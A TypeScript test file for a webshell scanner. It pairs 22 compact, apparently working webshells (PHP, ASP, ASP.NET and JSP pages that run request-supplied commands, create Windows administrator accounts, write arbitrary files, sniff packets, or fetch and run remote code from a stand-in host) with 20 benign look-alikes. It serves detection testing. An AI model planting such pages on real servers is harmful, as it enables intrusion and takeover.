import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { deflateRawSync } from 'node:zlib';
import { createScanner } from './scanner.js';

// Session 34: the techniques of the real webshells the held-out sets H1 to H4 missed at their first scan
// (bench/redteam/README-corpus-s34.md), written again by us as harmless pages, each with look-alikes an
// application may hold. Nothing here is copied from a sample.
const scanner = createScanner({});
const deflated = (t: string) => deflateRawSync(Buffer.from(t));
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);

// (the reversed page of the own-decoder form: a line of ours, written backwards)
const reversed = [...`Response.Write "a page kept backwards by its author" : x = ${'"abcdefghij" & '.repeat(24)}"end"`].reverse().join('');

const MALICIOUS: [string, string, string][] = [
  ['a variable function called through a braced bare name, ${c}(...)', '/var/www/html/a.php', `<?php $k = 'sys' . 'tem'; \${k}($_POST['q']); ?>`],
  ['preg_filter with the /e modifier and the replacement from the request', '/var/www/html/b.php', `<?php @preg_filter('#.+#e', $_REQUEST['r'], 'x'); ?>`],
  ['preg_filter with the /e modifier, the replacement a variable given the request', '/var/www/html/b2.php', `<?php $r = $_POST['r']; echo preg_filter('~^~e', $r, 'start'); ?>`],
  ['Windows accounts made through COM Shell.Users and made administrators', '/var/www/html/c.php', `<?php\n$users = new COM("Shell.Users");\n$u = $users->create("helpdesk2");\n$u->changePassword("Secret-1", "");\n$u->setting["AccountType"] = 3;\necho "done";\n`],
  ['ADSI WinNT:// making a user and adding it to Administrators', '/var/www/html/c2.php', `<?php\n$pc = new COM("WinNT://.");\n$user = $pc->Create("user", "helpdesk3");\n$user->SetPassword("Secret-2");\n$user->SetInfo();\n$g = new COM("WinNT://./Administrators,group");\n$g->Add("WinNT://helpdesk3");\n`],
  ['classic ASP executing characters picked by number out of a string', '/inetpub/wwwroot/d.asp', `<%\nFunction p(n) : p = Mid(t, n, 1) : End Function\nt = "qrstuvwxyz "\nExecute(p(3) & p(4) & p(5) & p(3) & p(4) & p(5) & p(11))\n%>`],
  ['classic ASP executing what its own function makes of a long reversed literal', '/inetpub/wwwroot/e.asp', `<%\nsrc = "${reversed.replace(/"/g, '""')}"\nExecute(Flip(src))\nFunction Flip(s)\nDim i, r\nFor i = 1 To Len(s)\nr = Mid(s, i, 1) & r\nNext\nFlip = r\nEnd Function\n%>`],
  ['a page driving Serv-U\'s local administration port', '/inetpub/wwwroot/f.asp', `<%\nSet h = Server.CreateObject("Microsoft.XMLHTTP")\nh.open "POST", "http://127.0.0.1:" & Request("port") & "/", False\nh.send "USER LocalAdministrator" & vbCrLf & "PASS " & Request("pw") & vbCrLf & "SITE MAINTENANCE" & vbCrLf & "-SETUSERSETUP" & vbCrLf & "-User=tmp1" & vbCrLf & "QUIT" & vbCrLf\n%>`],
  ['a few lines of ASP.NET that are a database client of the request', '/inetpub/wwwroot/g.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<%\nstring cs = Request.QueryString["c"];\nstring q = Request.QueryString["q"];\nusing (var db = new SqlConnection(cs)) { db.Open(); var cmd = new SqlCommand(q, db); var rd = cmd.ExecuteReader(); while (rd.Read()) Response.Write(rd[0] + "\\n"); }\n%>`],
  ['an ASP.NET web service (.soap) whose methods run programs and manage files', '/inetpub/wwwroot/h.soap', `<%@ WebService Language="C#" Class="Svc" %>\nusing System; using System.IO; using System.Diagnostics; using System.Web.Services;\npublic class Svc : WebService {\n  [WebMethod] public string Run(string a, string b) {\n    if (a == "L") return string.Join(",", Directory.GetLogicalDrives());\n    if (a == "D") { File.Delete(b); return "ok"; }\n    if (a == "W") { File.WriteAllText(b, "x"); return "ok"; }\n    var p = new ProcessStartInfo("cmd.exe", "/c " + b) { RedirectStandardOutput = true, UseShellExecute = false };\n    return Process.Start(p).StandardOutput.ReadToEnd();\n  }\n}\n`],
  ['JSP writing the request\'s text to the request\'s path with RandomAccessFile, in one statement', '/var/lib/tomcat/webapps/ROOT/i.jsp', `<%new java.io.RandomAccessFile(application.getRealPath("/") + request.getParameter("n"), "rw").write(request.getParameter("t").getBytes());%>`],
  ['VB.NET saving an upload where the request says, its strings in typographic quotes', '/inetpub/wwwroot/j.aspx', `<% If Request.Files.Count > 0 Then Request.Files(0).SaveAs(Server.MapPath(Request(\u201cn\u201d))) %>`],
  ['a WebForms page whose text boxes give the connection string and the query', '/inetpub/wwwroot/u.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\nvoid Go(object s, EventArgs e) {\n  var db = new SqlConnection();\n  db.ConnectionString = boxConn.Text;\n  db.Open();\n  var cmd = new SqlCommand(boxSql.Text, db);\n  grid.DataSource = cmd.ExecuteReader(); grid.DataBind();\n}\n</script>\n<form runat="server"><asp:TextBox id="boxConn" runat="server"/><asp:TextBox id="boxSql" runat="server" TextMode="MultiLine"/><asp:Button runat="server" OnClick="Go" Text="Run"/><asp:GridView id="grid" runat="server"/></form>`],
  ['classic ASP backdating files through Shell.Application', '/inetpub/wwwroot/v.asp', `<%\nSet sh = Server.CreateObject("Shell.Application")\nSet dir = sh.NameSpace(Request.Form("dir"))\nSet item = dir.ParseName(Request.Form("name"))\nitem.ModifyDate = Request.Form("when")\nResponse.Write "ok"\n%>`],
  ['an ASP.NET page storing an upload under the client\'s name in its own folder', '/inetpub/wwwroot/w.aspx', `<%@ Page Language="C#" %>\n<% if (Request.Files.Count == 1) { var f = Request.Files[0]; var here = new System.IO.FileInfo(Request.PhysicalPath).DirectoryName; using (var fs = new System.IO.FileStream(System.IO.Path.Combine(here, System.IO.Path.GetFileName(f.FileName)), System.IO.FileMode.Create)) f.InputStream.CopyTo(fs); Response.Write("saved"); } %>`],
  ['JSP registering a WebSocket endpoint at run time at the path the request names', '/var/lib/tomcat/webapps/ROOT/x.jsp', `<%@ page import="javax.websocket.*,javax.websocket.server.*" %>\n<%! public static class E extends Endpoint { public void onOpen(Session s, EndpointConfig c) { s.addMessageHandler(new MessageHandler.Whole<String>() { public void onMessage(String m) { try { s.getBasicRemote().sendText(m); } catch (Exception e) {} } }); } } %>\n<% ServerContainer c = (ServerContainer) application.getAttribute(ServerContainer.class.getName()); c.addEndpoint(ServerEndpointConfig.Builder.create(E.class, request.getParameter("p")).build()); out.print("ok"); %>`],
  ['an ASP.NET page capturing every packet with a raw socket', '/inetpub/wwwroot/y.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<% var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); s.Bind(new IPEndPoint(IPAddress.Parse(Request["ip"]), 0)); s.IOControl(IOControlCode.ReceiveAll, new byte[] { 1, 0, 0, 0 }, null); var buf = new byte[65535]; Response.Write(s.Receive(buf)); %>`],
  ['eval of a double-quoted string whose decoder chain is written in escaped quotes and pieces', '/var/www/html/ee.php', `<?php eval("\\$x=gzin"."flate(base"."64_de"."code(\\"${Buffer.from(deflated('<?php system($_GET["c"]); ?>')).toString('base64')}\\"));"); eval("?>".$x); ?>`],
  ['a command rewritten in an if branch from its own value, then run', '/var/www/html/ff.php', `<?php\n$cmd = isset($_POST['cmd']) ? $_POST['cmd'] : '';\n$n = strcspn($cmd, ' ');\nif (isset($aliases[substr($cmd, 0, $n)])) $cmd = $aliases[substr($cmd, 0, $n)] . substr($cmd, $n);\n$p = proc_open($cmd, array(1 => array('pipe', 'w')), $io);\necho stream_get_contents($io[1]);\n`],
  ['PHP 4\'s long request arrays extracted, then a command run', '/var/www/html/gg.php', `<?php\nif (!empty($HTTP_POST_VARS)) extract($HTTP_POST_VARS);\nif (!empty($cmd)) { echo '<pre>'; system($cmd); echo '</pre>'; }\n`],
  ['names made by pack(\'c*\') kept in $GLOBALS, fetched code made a function and called', '/var/www/html/hh.php', `<?php\n$k = pack('c*', 0x70, 0x61, 99, 107);\n$GLOBALS = array(\n  'c' => $k('c*', 99, 97, 108, 108, 95, 117, 115, 101, 114, 95, 102, 117, 110, 99),\n  'f' => $k('c*', 102, 105, 108, 101, 95, 103, 101, 116, 95, 99, 111, 110, 116, 101, 110, 116, 115),\n  'e' => $k('c*', 99, 114, 101, 97, 116, 101, 95, 102, 117, 110, 99, 116, 105, 111, 110),\n  'u' => 'http://example.invalid/p.txt'\n);\n$GLOBALS['c']($GLOBALS['e'](null, $GLOBALS['f']($GLOBALS['u'])));\n`],
  ['a callback named by a header\'s piece and a name\'s tail, given request input', '/var/www/html/ii.php', `<?php\n$h = substr($_SERVER['HTTP_REFERER'], -7, -4);\nforward_static_call_array($h . 'ert', array($_REQUEST['z']));\n`],
];

const LOOKALIKES: [string, string, string][] = [
  ['a template printing ${name}(s) in a string', '/var/www/html/k.php', `<?php $name = 'file'; $count = 2; echo "You have \${count} \${name}(s) waiting"; ?>`],
  ['preg_filter without /e, on an array of the request', '/var/www/html/l.php', `<?php $ids = preg_filter('/^(\\d+)$/', 'id-$1', (array) $_GET['ids']); echo implode(',', $ids); ?>`],
  ['a Windows worker started through COM WScript.Shell with a fixed command', '/var/www/html/m.php', `<?php\n$sh = new COM("WScript.Shell");\n$sh->Run("php C:\\\\app\\\\queue-worker.php", 0, false);\necho "queued";\n`],
  ['an ASP page writing characters picked by number (no Execute)', '/inetpub/wwwroot/n.asp', `<%\nFunction p(n) : p = Mid(t, n, 1) : End Function\nt = "HELLO WORLD"\nResponse.Write p(1) & p(2) & p(3) & p(4) & p(5) & p(6) & p(7)\n%>`],
  ['an ASP page reversing a long literal for display, executing a fixed line', '/inetpub/wwwroot/o.asp', `<%\nsrc = "${reversed.replace(/"/g, '""')}"\nResponse.Write Flip(src)\nExecute("Session(""seen"") = True")\nFunction Flip(s)\nDim i, r\nFor i = 1 To Len(s)\nr = Mid(s, i, 1) & r\nNext\nFlip = r\nEnd Function\n%>`],
  ['an FTP help page naming one Serv-U command', '/var/www/html/p.php', `<?php echo "<p>Serv-U administrators may use SITE MAINTENANCE from their FTP client to change settings.</p>"; ?>`],
  ['an ASP.NET report page with a fixed connection string and a query by id', '/inetpub/wwwroot/q.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<%\nstring id = Request.QueryString["id"];\nusing (var db = new SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["main"].ConnectionString)) { db.Open(); var cmd = new SqlCommand("select name from items where id = @id", db); cmd.Parameters.AddWithValue("@id", id); Response.Write(cmd.ExecuteScalar()); }\n%>`],
  ['an ASMX service starting a fixed program, touching no files', '/inetpub/wwwroot/r.asmx', `<%@ WebService Language="C#" Class="Jobs" %>\nusing System.Diagnostics; using System.Web.Services;\npublic class Jobs : WebService {\n  [WebMethod] public int Reindex() { var p = Process.Start("C:\\\\tools\\\\reindex.exe"); p.WaitForExit(); return p.ExitCode; }\n}\n`],
  ['JSP reading the tail of a fixed log with RandomAccessFile', '/var/lib/tomcat/webapps/ROOT/s.jsp', `<%java.io.RandomAccessFile f = new java.io.RandomAccessFile("/var/log/app/app.log", "r"); f.seek(Math.max(0, f.length() - 4096)); out.print(f.readLine()); f.close();%>`],
  ['a C# page with typographic quotes in its text', '/inetpub/wwwroot/t.aspx', `<%@ Page Language="C#" %>\n<% string tip = "Press \u201cSave\u201d to keep it"; Response.Write(Server.HtmlEncode(tip)); Request.Files[0].SaveAs(Server.MapPath("~/App_Data/" + Guid.NewGuid())); %>`],
  ['a WebForms report page running the text box\'s query on the configured connection', '/inetpub/wwwroot/z.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\nvoid Go(object s, EventArgs e) {\n  var db = new SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["reports"].ConnectionString);\n  db.Open();\n  var cmd = new SqlCommand("select * from report where name = @n", db);\n  cmd.Parameters.AddWithValue("@n", boxName.Text);\n  grid.DataSource = cmd.ExecuteReader(); grid.DataBind();\n}\n</script>`],
  ['classic ASP listing files with their modification dates', '/inetpub/wwwroot/aa.asp', `<%\nSet sh = Server.CreateObject("Shell.Application")\nSet dir = sh.NameSpace(Server.MapPath("docs"))\nSet item = dir.ParseName("report.pdf")\nResponse.Write item.ModifyDate\n%>`],
  ['an ASP.NET upload stored under a new name in App_Data', '/inetpub/wwwroot/bb.aspx', `<%@ Page Language="C#" %>\n<% if (Request.Files.Count == 1) { var f = Request.Files[0]; var dir = Server.MapPath("~/App_Data/uploads"); f.SaveAs(System.IO.Path.Combine(dir, Guid.NewGuid().ToString("N") + ".bin")); Response.Write(System.IO.Path.GetFileName(f.FileName)); } %>`],
  ['JSP showing whether the WebSocket container is there', '/var/lib/tomcat/webapps/ROOT/cc.jsp', `<%@ page import="javax.websocket.server.ServerContainer" %>\n<% Object c = application.getAttribute(ServerContainer.class.getName()); out.print(c != null ? "websockets on" : "websockets off"); %>`],
  ['an ASP.NET ping page with a raw ICMP socket', '/inetpub/wwwroot/dd.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<% var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Icmp); s.ReceiveTimeout = 1000; Response.Write(s.ProtocolType); s.Close(); %>`],
  ['eval of a double-quoted config line', '/var/www/html/jj.php', `<?php $name = 'site'; eval("\\$config = array('name' => \\"$name\\", 'debug' => false);"); echo $config['name']; ?>`],
  ['a file name rewritten in an if branch, then given to a command escaped', '/var/www/html/kk.php', `<?php\n$f = $_GET['f'];\nif (strpos($f, '/') === false) $f = '/srv/img/' . basename($f);\nsystem('/usr/bin/identify ' . escapeshellarg($f));\n`],
  ['an old form handler extracting $HTTP_POST_VARS and printing escaped', '/var/www/html/ll.php', `<?php\nextract($HTTP_POST_VARS);\necho 'Thanks, ' . htmlspecialchars($name) . '. We will write to ' . htmlspecialchars($email) . '.';\n`],
  ['a PNG signature made by pack(\'C*\')', '/var/www/html/mm.php', `<?php\n$sig = pack('C*', 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A);\nif (substr(file_get_contents($_FILES['f']['tmp_name']), 0, 8) !== $sig) die('not a PNG');\n`],
  ['a module dispatcher calling the module\'s item handler with the request\'s id', '/var/www/html/nn.php', `<?php\n$module = preg_replace('/[^a-z]/', '', $_GET['m']);\ncall_user_func($module . '_item', $_GET['id']);\n`],
];

describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
  for (const [name, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
    });
  }
  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 22));

  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 20));
});
